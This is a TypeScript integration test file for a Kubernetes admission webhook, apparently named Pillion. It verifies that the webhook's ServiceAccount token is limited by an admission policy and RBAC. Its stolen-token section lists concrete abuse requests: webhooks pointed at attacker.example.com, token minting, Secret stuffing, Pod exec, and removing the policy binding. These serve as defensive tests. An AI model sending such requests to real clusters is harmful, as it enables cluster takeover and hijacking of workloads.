import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { evict } from '../../src/cluster/sweep/evict.ts'
import { podEvents } from '../../src/cluster/sweep/pod-event.ts'
import type { JsonObject } from '../../src/profile/json.ts'
import type { Running } from '../../src/server/main.ts'
import type { AuditEvent } from './audit.ts'
import { apiFor } from './client.ts'
import { type Connection, connect, type Method } from './connection.ts'
import { install, post, serveIn } from './deployed.ts'
import { configurationsOf } from './installation.ts'
import { useKubeconfig } from './kubeconfig.ts'
import { createPod, podFor } from './pods.ts'
import { describeWithApiServer } from './suite.ts'
import { until } from './until.ts'

const account = 'system:serviceaccount:pillion:pillion'
const [mutating = '', validating = ''] = configurationsOf('pillion')
const secrets = '/api/v1/namespaces/pillion/secrets'
const leases = '/apis/coordination.k8s.io/v1/namespaces/pillion/leases'
const profiles = '/apis/pillion.dev/v1alpha1/clustersidecarprofiles'
const apply = 'application/apply-patch+yaml'
const strategic = 'application/strategic-merge-patch+json'

describeWithApiServer('the token of Pillion', server => {
  let running: Running
  let restore: () => Promise<void>
  let token: string
  let thief: Connection
  /** How many requests there were before Pillion's own. */
  let before: number

  beforeAll(async () => {
    await install(server())
    await server().createNamespace('shop')
    const path = '/api/v1/namespaces/pillion/serviceaccounts/pillion/token'
    const { body } = await server().request<{ status: { token: string } }>('POST', path, { spec: {} })
    token = body.status.token
    thief = connect({ ...server(), token })
    const dangling = { metadata: { name: 'other' }, webhooks: [] }
    await server().request('POST', mutating.replace(/pillion$/, ''), dangling)
    await until('the policy is in force', 20_000, async () => {
      const { body } = await thief.request<{ message?: string }>('POST', podsOf('pillion'), podFor('real'))
      return body.message?.includes('ValidatingAdmissionPolicy') ?? false
    })
    before = (await server().audit()).length
    restore = await useKubeconfig({ ...server(), token }, 'shop')
    running = await serveIn(server())
  }, 90_000)
  afterAll(async () => {
    await running.stop()
    thief.close()
    await restore()
  })

  describe('as Pillion uses it', () => {
    it('is enough to write the certificate, every caBundle, the Lease and the statuses', async () => {
      const { body } = await server().request<Stored>('GET', `${secrets}/pillion-tls`)
      expect(Object.keys(body['data'] ?? {})).toContain('tls.crt')
      await until('each profile was verified by a dry run', 20_000, async () => {
        const { body } = await server().request<{ items: Stored[] }>('GET', profiles)
        return body.items.every(({ status }) =>
          status?.conditions.some(({ type, status }) => type === 'Proven' && status === 'True'),
        )
      })
    })

    it('is enough to say on a Pod what it lacks, and to ask whether it could be evicted', async () => {
      await createPod(server(), 'shop', podFor('lacking'))
      const { body } = await server().request<{ metadata: { uid: string } }>(
        'GET',
        `${podsOf('shop')}/lacking`,
      )
      const { uid } = body.metadata
      const failures: string[] = []
      const options = { failed: (why: string) => failures.push(why), signal: AbortSignal.timeout(10_000) }
      const events = podEvents(apiFor({ ...server(), token }), { ...options, identity: 'replica-1' })
      events.begin()
      await events.say({ namespace: 'shop', name: 'lacking', uid, kind: 'Missed', message: 'x' } as never)
      const api = apiFor({ ...server(), token })
      const { result } = await evict(
        api,
        { namespace: 'shop', name: 'lacking', uid },
        { ...options, isDryRun: true },
      )
      expect({ failures, result }).toEqual({ failures: [], result: 'would-evict' })
      const list = await server().request<{ items: Stored[] }>('GET', '/api/v1/namespaces/shop/events')
      expect(list.body.items.map(({ reason }) => reason)).toContain('InjectionMissed')
    })

    it('was refused nothing that the server sent', async () => {
      const sentSince = async () => (await server().audit()).slice(before).filter(isBy(account))
      await until('the Lease was renewed', 20_000, async () =>
        (await sentSince()).map(written).includes('update leases'),
      )
      const sent = await sentSince()
      const refused = sent.filter(({ responseStatus }) => [403, 422].includes(responseStatus?.code ?? 0))
      expect(refused.map(({ verb, requestURI }) => `${verb} ${requestURI}`)).toEqual([])
      expect([...new Set(sent.filter(({ verb }) => writing.has(verb)).map(written))].sort()).toEqual([
        'create events',
        'create leases',
        'create pods',
        'create pods/eviction',
        'patch clustersidecarprofiles/status',
        'patch mutatingwebhookconfigurations',
        'patch secrets',
        'patch validatingwebhookconfigurations',
        'update leases',
      ])
    })
  })

  describe('in the hands of somebody else', () => {
    const everything = {
      name: 'all.example.com',
      rules: [{ apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], operations: ['*'] }],
      clientConfig: { url: 'https://attacker.example.com/' },
      admissionReviewVersions: ['v1'],
      sideEffects: 'None',
      failurePolicy: 'Ignore',
    }
    const own = (change: JsonObject): JsonObject => ({
      webhooks: [{ name: 'pod.inject.pillion.dev', ...change }],
    })
    const secret = (name: string, more: JsonObject): JsonObject => ({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name },
      ...more,
    })
    const privileged = podFor('mighty') as { spec: { containers: object[] } }
    const event = (change: JsonObject): JsonObject => ({
      metadata: { generateName: 'x-' },
      involvedObject: { apiVersion: 'v1', kind: 'Pod', namespace: 'shop', name: 'lacking' },
      reason: 'InjectionMissed',
      reportingComponent: 'pillion.dev/sweep',
      reportingInstance: 'x',
      source: { component: 'pillion' },
      ...change,
    })
    const lease = (name: string) => ({ metadata: { name }, spec: { holderIdentity: 'thief' } })
    const forged = { containers: [{ name: 'thief', image: 'attacker.example.com/thief:1' }] }

    const byPolicy: readonly Attempt[] = [
      {
        what: 'adds a webhook for everything',
        method: 'PATCH',
        path: mutating,
        body: { webhooks: [everything] },
        type: strategic,
      },
      {
        what: 'adds a validating webhook for everything',
        method: 'PATCH',
        path: validating,
        body: { webhooks: [everything] },
        type: strategic,
      },
      { what: 'replaces all webhooks', method: 'PATCH', path: mutating, body: { webhooks: [everything] } },
      { what: 'removes all webhooks', method: 'PATCH', path: mutating, body: { webhooks: [] } },
      {
        what: 'widens the rules',
        method: 'PATCH',
        path: mutating,
        body: own({ rules: everything.rules }),
        type: strategic,
      },
      {
        what: 'has Pods sent elsewhere',
        method: 'PATCH',
        path: mutating,
        body: own({ clientConfig: { service: { name: 'x', namespace: 'shop' } } }),
        type: strategic,
      },
      {
        what: 'has Pods sent to a URL',
        method: 'PATCH',
        path: mutating,
        body: own({ clientConfig: { $patch: 'replace', url: 'https://attacker.example.com/' } }),
        type: strategic,
      },
      {
        what: 'has another path called',
        method: 'PATCH',
        path: mutating,
        body: own({ clientConfig: { service: { path: '/x' } } }),
        type: strategic,
      },
      {
        what: 'closes the webhook',
        method: 'PATCH',
        path: mutating,
        body: own({ failurePolicy: 'Fail' }),
        type: strategic,
      },
      {
        what: 'waits longer',
        method: 'PATCH',
        path: mutating,
        body: own({ timeoutSeconds: 29 }),
        type: strategic,
      },
      {
        what: 'takes away the matchConditions',
        method: 'PATCH',
        path: mutating,
        body: own({ matchConditions: [{ name: 'asks', $patch: 'delete' }] }),
        type: strategic,
      },
      {
        what: 'widens the namespaceSelector',
        method: 'PATCH',
        path: mutating,
        body: own({ namespaceSelector: { $patch: 'replace' } }),
        type: strategic,
      },
      {
        what: 'adds an objectSelector',
        method: 'PATCH',
        path: mutating,
        body: own({ objectSelector: { matchLabels: { a: 'b' } } }),
        type: strategic,
      },
      {
        what: 'annotates the configuration',
        method: 'PATCH',
        path: mutating,
        body: { metadata: { annotations: { a: 'b' } } },
      },
      {
        what: 'labels the configuration',
        method: 'PATCH',
        path: validating,
        body: { metadata: { labels: { a: 'b' } } },
      },
      {
        what: 'gives the configuration an owner',
        method: 'PATCH',
        path: mutating,
        body: {
          metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Namespace', name: 'x', uid: 'x' }] },
        },
      },
      { what: 'creates a Pod', method: 'POST', path: podsOf('pillion'), body: podFor('for-real') },
      {
        what: 'puts a token of another ServiceAccount into its Secret',
        method: 'PATCH',
        path: `${secrets}/pillion-tls?fieldManager=x&force=true`,
        body: secret('pillion-tls', {
          type: 'kubernetes.io/tls',
          metadata: { name: 'pillion-tls', annotations: { 'kubernetes.io/service-account.name': 'default' } },
        }),
        type: apply,
      },
      {
        what: 'keeps something else in its Secret',
        method: 'PATCH',
        path: `${secrets}/pillion-tls`,
        body: { data: { loot: 'eA==' } },
      },
      {
        what: 'labels its Secret',
        method: 'PATCH',
        path: `${secrets}/pillion-tls`,
        body: { metadata: { labels: { a: 'b' } } },
      },
      {
        what: 'creates a Lease of another name',
        method: 'POST',
        path: leases,
        body: lease('kube-scheduler'),
      },
      {
        what: 'invents an accepted spec',
        method: 'PATCH',
        path: `${profiles}/work-dir/status`,
        body: { status: { lastAccepted: { revision: '0123456789', spec: forged } } },
      },
      {
        what: 'says something on a node',
        method: 'POST',
        path: '/api/v1/namespaces/default/events',
        body: event({ involvedObject: { kind: 'Node', name: 'n', namespace: 'default' } }),
      },
      {
        what: 'speaks as another component',
        method: 'POST',
        path: '/api/v1/namespaces/shop/events',
        body: event({ source: { component: 'kubelet' } }),
      },
      {
        what: 'speaks of something else',
        method: 'POST',
        path: '/api/v1/namespaces/shop/events',
        body: event({ reason: 'Killing' }),
      },
      {
        what: 'evicts a Pod',
        method: 'POST',
        path: `${podsOf('shop')}/lacking/eviction`,
        body: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'lacking', namespace: 'shop' } },
      },
    ]

    it.each(byPolicy)('is refused by the policy when it $what', async attempt => {
      const { status, body } = await tried(attempt)
      expect(body.message).toMatch(/ValidatingAdmissionPolicy 'pillion-token' .*the token of Pillion may/)
      expect([403, 422]).toContain(status)
    })

    const byRbac: readonly Attempt[] = [
      { what: 'deletes the configuration', method: 'DELETE', path: mutating },
      {
        what: 'changes another configuration',
        method: 'PATCH',
        path: mutating.replace(/pillion$/, 'other'),
        body: { webhooks: [everything] },
      },
      {
        what: 'creates a configuration',
        method: 'POST',
        path: mutating.replace(/\/pillion$/, ''),
        body: { metadata: { name: 'mine' }, webhooks: [everything] },
      },
      {
        what: 'tries a Pod elsewhere',
        method: 'POST',
        path: `${podsOf('shop')}?dryRun=All`,
        body: privileged,
      },
      { what: 'reads a Secret of Pillion’s namespace', method: 'GET', path: `${secrets}/other` },
      { what: 'lists Secrets', method: 'GET', path: '/api/v1/secrets' },
      {
        what: 'creates a Secret for a token',
        method: 'PATCH',
        path: `${secrets}/loot?fieldManager=x`,
        body: secret('loot', { type: 'kubernetes.io/service-account-token' }),
        type: apply,
      },
      { what: 'changes a spec', method: 'PATCH', path: `${profiles}/work-dir`, body: { spec: forged } },
      {
        what: 'creates a profile',
        method: 'POST',
        path: profiles,
        body: { metadata: { name: 'thief' }, spec: forged },
      },
      { what: 'deletes its Lease', method: 'DELETE', path: `${leases}/pillion` },
      {
        what: 'changes another Lease',
        method: 'PUT',
        path: '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler',
        body: lease('kube-scheduler'),
      },
      {
        what: 'makes a token',
        method: 'POST',
        path: '/api/v1/namespaces/pillion/serviceaccounts/default/token',
        body: {},
      },
      {
        what: 'takes away the policy',
        method: 'DELETE',
        path: '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/pillion-token',
      },
      {
        what: 'weakens the binding',
        method: 'PATCH',
        path: '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/pillion-token',
        body: { spec: { validationActions: ['Audit'] } },
      },
      {
        what: 'gives itself rights',
        method: 'PATCH',
        path: '/apis/rbac.authorization.k8s.io/v1/clusterroles/pillion',
        body: { rules: [] },
      },
      {
        what: 'labels a namespace',
        method: 'PATCH',
        path: '/api/v1/namespaces/shop',
        body: { metadata: { labels: { a: 'b' } } },
      },
      { what: 'runs something in a Pod', method: 'POST', path: `${podsOf('shop')}/lacking/exec?command=id` },
    ]

    it.each(byRbac)('has no permission when it $what', async attempt => {
      const { status, body } = await tried(attempt)
      expect(body.message).toContain(`User "${account}" cannot `)
      expect(status).toBe(403)
    })

    it('may try a Pod only where Pod Security judges it', async () => {
      await server().request('PATCH', '/api/v1/namespaces/pillion', {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'restricted' } },
      })
      const path = `${podsOf('pillion')}?dryRun=All`
      expect((await thief.request<Refusal>('POST', path, podFor('plain'))).body.message).toContain(
        'PodSecurity',
      )
    })

    it('leaves everybody else alone', async () => {
      await post(server(), {
        apiVersion: 'v1',
        kind: 'Pod',
        ...podFor('free'),
        metadata: { name: 'free', namespace: 'shop' },
      })
      const { status } = await server().request('PATCH', mutating, { metadata: { annotations: { a: 'b' } } })
      expect(status).toBe(200)
    })

    it('may do nothing else where somebody made it a cluster-admin', async () => {
      await post(server(), {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRoleBinding',
        metadata: { name: 'mistake' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', name: 'pillion', namespace: 'pillion' }],
      })
      await until(
        'it is in force',
        10_000,
        async () => (await thief.request('GET', '/api/v1/secrets')).status === 200,
      )
      const granted: readonly Attempt[] = [
        { what: 'deletes the configuration', method: 'DELETE', path: mutating },
        {
          what: 'creates a configuration',
          method: 'POST',
          path: mutating.replace('/pillion', ''),
          body: { metadata: { name: 'mine' }, webhooks: [] },
        },
        {
          what: 'tries a Pod elsewhere',
          method: 'POST',
          path: `${podsOf('shop')}?dryRun=All`,
          body: privileged,
        },
        {
          what: 'creates a Secret for a token',
          method: 'POST',
          path: secrets,
          body: secret('loot', {
            metadata: { name: 'loot', annotations: { 'kubernetes.io/service-account.name': 'default' } },
            type: 'kubernetes.io/service-account-token',
          }),
        },
        {
          what: 'makes a token',
          method: 'POST',
          path: '/api/v1/namespaces/pillion/serviceaccounts/default/token',
          body: {},
        },
        { what: 'changes a spec', method: 'PATCH', path: `${profiles}/work-dir`, body: { spec: forged } },
        {
          what: 'creates a ConfigMap',
          method: 'POST',
          path: '/api/v1/namespaces/shop/configmaps',
          body: { metadata: { name: 'x' } },
        },
        {
          what: 'runs something in a Pod',
          method: 'POST',
          path: `${podsOf('shop')}/lacking/exec?command=id`,
        },
      ]
      for (const attempt of granted)
        expect((await tried(attempt)).body.message, attempt.what).toContain('the token of Pillion may')
    })

    it('would own the cluster without the policy', async () => {
      const binding = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/pillion-token'
      await server().request('DELETE', binding)
      const takeover = { ...byPolicy[0]!, path: `${mutating}?dryRun=All` }
      await until('the takeover succeeds', 10_000, async () => (await tried(takeover)).status === 200)
    })

    const tried = ({ method, path, body, type }: Attempt) =>
      thief.request<Refusal>(method, path, body, type === undefined ? {} : { contentType: type })
  })
})

const writing: ReadonlySet<string> = new Set(['create', 'update', 'patch', 'delete'])

function isBy(username: string) {
  return ({ user }: AuditEvent) => user.username === username
}

function written({ verb, objectRef }: AuditEvent): string {
  const { resource = '', subresource } = objectRef ?? {}
  return `${verb} ${subresource === undefined ? resource : `${resource}/${subresource}`}`
}

function podsOf(namespace: string): string {
  return `/api/v1/namespaces/${namespace}/pods`
}

interface Attempt {
  readonly what: string
  readonly method: Method
  readonly path: string
  readonly body?: object
  readonly type?: string
}

interface Refusal {
  readonly message: string
}

interface Stored {
  readonly data?: object
  readonly reason?: string
  readonly status?: { readonly conditions: readonly { readonly type: string; readonly status: string }[] }
}
